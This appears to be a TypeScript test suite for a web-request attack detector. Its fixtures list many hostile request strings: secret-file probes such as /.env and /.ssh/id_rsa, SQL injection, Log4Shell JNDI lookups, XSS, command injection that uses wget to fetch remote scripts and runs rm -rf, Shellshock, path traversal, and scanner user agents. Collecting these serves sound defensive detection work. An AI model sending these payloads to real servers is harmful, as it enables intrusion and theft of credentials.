// Requests that attack and requests that do not, and that no text makes the judging slow.

import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { limits } from '../../core/limits.ts'
import type { Attack } from '../tally.ts'
import { attackOf, scannerOf } from './patterns.ts'

const cases = (spaced: string, ...others: readonly string[]): readonly string[] => [
  ...spaced.trim().split(/\s+/),
  ...others,
]

const attempts: Readonly<Partial<Record<Attack, readonly string[]>>> = {
  probe: cases(
    `
    /.env /app/.env /.env-live /.env~ /.ENV /%2eenv /.git/config /old/.git /.git/HEAD /.aws/credentials
    /.ssh/id_rsa /.DS_Store /.svn/entries /.vscode/sftp.json /.htpasswd /wp-login.php /blog/wp-login.php
    //xmlrpc.php /wp-includes/wlwmanifest.xml /wp-config.php.bak /wp-admin/setup-config.php?step=1
    /wp-json/wp/v2/users /?rest_route=/wp/v2/users /phpmyadmin/ /phpMyAdmin-5.1.1/index.php /pma/ /PMA2019
    /adminer.php /adminer-4.8.1.php /phpinfo.php /_profiler/phpinfo
    /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php /c99.php /actuator/env /actuator/heapdump
    /server-status /solr/admin/info/system?wt=json /manager/html /boaform/admin/formLogin /HNAP1
    /GponForm/diag_Form /cgi-bin/luci /remote/fgt_lang?lang=en /owa/auth/logon.aspx /geoserver/web/
    /v2/_catalog /containers/json /dana-na/auth/x.cgi /backup.zip /db.sql /old/dump.sql.gz /index.php.bak
    /config.php~ /docker-compose.yml /?XDEBUG_SESSION_START=phpstorm example.com:443 /+CSCOE+/logon.html
    /nmaplowercheck1700000000 /nice%20ports%2C/Tri%6Eity.txt%2ebak http://203.0.113.9/.env
    /_ignition/health-check`,
    'CONNECT example.com:443',
  ),
  injection: cases(
    `
    /?id=1+UNION+SELECT+1,2,3-- /?id=-1%27%20union%20all%20select%20null,null--%20- /?id=1'+or+'1'='1
    /?id=1%20AND%201=1 /?u=admin'-- /?id=1%20order%20by%2010-- /?q=1);DROP+TABLE+users /?id=sleep(5)
    /?id=1;waitfor+delay+'0:0:5'-- /?id=1+union/**/select/**/@@version,2 /?id=1/*!50000union*/+select+1
    /?x=extractvalue(1,concat(0x7e,version())) /?x=(select+count(*)+from+information_schema.tables)
    /?x=\${jndi:ldap://192.0.2.7/a} /\${jndi:dns://x} /?x=%24%7Bjndi%3Armi%3A//192.0.2.7/a%7D
    /?x=\${\${lower:j}ndi:ldap://x} /?x=\${\${::-j}\${::-n}di:x} /%24%7B%28%23a%3D%40org%7D /?name={{7*7}}
    /?q=<script>alert(1)</script> /?q=%3Cscript%3E /?q=%253Cscript%253E /?next=javascript:alert(1)
    /?q=%22+onmouseover%3Dalert(1) /?a=%0d%0aSet-Cookie:x=1 /?q=<svg/onload=1>
    /cgi-bin/x.cgi?a=;wget+http://192.0.2.7/m.sh /shell?cd+/tmp;rm+-rf+*;wget+x /?c=|cat+/etc/passwd
    /?x=$(id) /?x=\`id\` /?cmd=whoami /ping?h=127.0.0.1;id /?x=<?php+phpinfo(); /?f=/bin/sh
    /?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input
    /index.php?s=/index/think/app/invokefunction&function=call_user_func_array&vars[0]=md5
    /\\x22\\x3E\\x3Cscript\\x3E /?class.module.classLoader.resources=x /?x=eval(base64_decode(1))`,
    '/?q="><img src=x onerror=1>',
    '/?x=() { :;}; echo a',
  ),
  traversal: cases(`
    /../../etc/passwd /..%2f..%2fetc%2fpasswd /%2e%2e/%2e%2e/etc/passwd /%252e%252e%252fwindows
    /cgi-bin/.%2e/.%2e/.%2e/bin/sh /a/b/../../../c /..\\..\\windows\\win.ini /static/..%5c..%5cboot.ini
    /?file=../../../etc/passwd /?page=..%2F..%2Fwp-config.php /?f=/etc/passwd /?f=file:///etc/passwd
    /?f=php://filter/convert.base64-encode/resource=index /image.php%00.jpg /?f=a%00.jpg /..;/manager
    /etc/passwd /proc/self/environ /?f=../../../../../../proc/self/environ`),
  garbage: cases(
    `
    \\x16\\x03\\x01\\x02\\x00\\x01\\x00 SSH-2.0-Go MGLNDD_192.0.2.1_80 quit \\n *1\\x0D\\x0A$4\\x0D\\x0Ainfo index.html`,
    '\\x03\\x00\\x00/*\\xE0\\x00\\x00\\x00Cookie: mstshash=Administr',
    'EHLO example.com',
    '\u0016\u0003\u0001',
    't3 12.1.2',
    '{\\x22id\\x22: 1, \\x22method\\x22: \\x22mining.subscribe\\x22}',
  ),
}

const ordinary = cases(
  `
    / /index.html /om-os /kontakt?emne=Hej+med+dig /favicon.ico /robots.txt - * /.well-known/security.txt
    /.well-known/acme-challenge/x_Y-z /.well-known/openid-configuration /wp-content/uploads/2026/01/hus.jpg
    /wp-admin/admin-ajax.php?action=x /wp-json/wp/v2/posts?page=2
    /wp-includes/js/jquery/jquery.min.js?ver=3.7.1 /autodiscover/autodiscover.xml /actuator/health
    /search?q=select+from+the+menu /?q=drop+table+tennis /?q=O'Reilly /?q=rock+'n'+roll /?q=it's+or+its
    /?q=western+union+select+committee /?s=order+by+10+friends /?q=1+and+2 /?q=sleep(8h) /?q=exec
    /artikler/sql-injection-explained/ /blog/what-is-an-env-file /docs/git/config /git/ /env/
    /blog/wp-login-php-guide /products/scripts/app.js /images/..hidden.png /a/../b /docs/../docs/
    /?back=../index.html /?utm_source=a%7Cb&utm_medium=c /?redirect=https%3A%2F%2Fexample.dk%2Fside /a%20b
    /?filter[name]=x&sort=-date /?json=%7B%22a%22%3A%221%22%7D /s%C3%B8g?q=%C3%A6bler /s\\xC3\\xB8g
    /Main_Page_(disambiguation) /wiki/C%2B%2B /?price=%24100 /?q=a;b /?q=tom+%26+jerry /@bruger/ /info.php
    /test.php /files/www.zip /download/site.tar.gz /docs/sdk /blog/server-status /?q=how+to+chmod
    /?q=cat+and+dog /?q=id /?email=a%40b.dk /?q=%22exact+words%22 /?q=1%3D1 http://example.dk/om-os
    https://example.dk /feed/?paged=2 /shop/cd/tmp /manager/ /pmanager /?q=the+bin+and+the+sh /% /%zz /?%
    /?q=a--b /?title=Mand%20--%20kvinde /remote/work /?q=100%25 /?page=2#top /a,b;c=d /l'%C3%A9t%C3%A9
    /?q=l%27eau+or+vin /?phone=%2B4570123456 /assets/evaluation(1).pdf /?q=system+(dk) /?q=document+cookies
    /?on=1&error=0 /?on_error=1`,
  '',
)

const judge = (text: string): Attack | null => {
  const mark = text.indexOf('?')
  const isPath = mark > 0 && /^(?:\/|https?:)/.test(text)
  return isPath ? attackOf(text.slice(0, mark), text.slice(mark + 1)) : attackOf(text, '')
}

test('every kind of attack is known for what it is', () => {
  for (const [attack, texts] of Object.entries(attempts))
    assert.deepEqual(
      texts.filter(text => judge(text) !== attack).map(text => [text, judge(text)]),
      [],
      attack,
    )
})

test('ordinary pages are no attacks', () => {
  assert.deepEqual(
    ordinary.filter(text => judge(text) !== null).map(text => [text, judge(text)]),
    [],
  )
})

test('tools that look for holes are told from browsers and from programs that fetch', () => {
  const tools = [
    ...[
      'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)',
      'sqlmap/1.7#stable (https://sqlmap.org)',
      'masscan/1.3',
    ],
    ...[
      'Mozilla/5.0 zgrab/0.x',
      'Mozilla/5.0 (compatible; Nmap Scripting Engine)',
      'WPScan v3.8',
      'gobuster/3.1.0',
    ],
    ...[
      'Fuzz Faster U Fool v2.0.0',
      `\${jndi:ldap://192.0.2.7/a}`,
      '() { :; }; /bin/bash -c id',
      'Mozilla/4.0 (Hydra)',
    ],
  ]
  const others = [
    ...['Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0', 'curl/8.5.0', '-', ''],
    ...[
      'python-httpx/0.27',
      'Go-http-client/2.0',
      'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
    ],
  ]
  assert.deepEqual([tools.filter(agent => !scannerOf(agent)), others.filter(scannerOf)], [[], []])
})

test('any two texts are judged, and by nothing beyond the letters that are looked at', () => {
  const text = fc.string({ unit: 'binary', maxLength: 60 })
  fc.assert(
    fc.property(text, text, (path, query) => {
      const long = `/${path}`.padEnd(limits.attackLetters, 'a')
      return attackOf(`${long}/.env`, query) === attackOf(long, query) && typeof scannerOf(path) === 'boolean'
    }),
  )
})

test('no repetition makes the judging slow', t => {
  const pieces = [
    ...[
      'a',
      ' ',
      '/',
      '../',
      '%',
      '%25',
      '\\x',
      "'",
      '"',
      '(',
      '{',
      '${',
      '${${',
      '<',
      '<!',
      '--',
      ' or ',
      "' or ",
      '1 or ',
    ],
    ...[
      'union select ',
      'union all select a',
      "' or a",
      '; ',
      ';wget',
      '() {',
      '/*',
      '/**/',
      '*/',
      '=',
      '=/',
      '.',
      '.env',
      'php',
    ],
    ...['/phpmyadmin', '\n', '\r\n', '1', '11 and 1', '$(', '`', '|', '%00', 'http://', 'a:1'],
  ]
  const slowest = { piece: '', ms: 0 }
  for (const piece of pieces) {
    const text = piece.repeat(Math.ceil(limits.attackLetters / piece.length))
    const begun = performance.now()
    for (const path of [text, `/${text}`]) attackOf(path, text)
    scannerOf(text)
    const ms = performance.now() - begun
    if (ms > slowest.ms) Object.assign(slowest, { piece, ms })
  }
  t.diagnostic(`slowest: ${slowest.ms.toFixed(1)} ms for ${JSON.stringify(slowest.piece)} repeated`)
  assert.ok(slowest.ms < 250, `expected less than 250 ms, got ${slowest.ms} for ${slowest.piece}`)
})
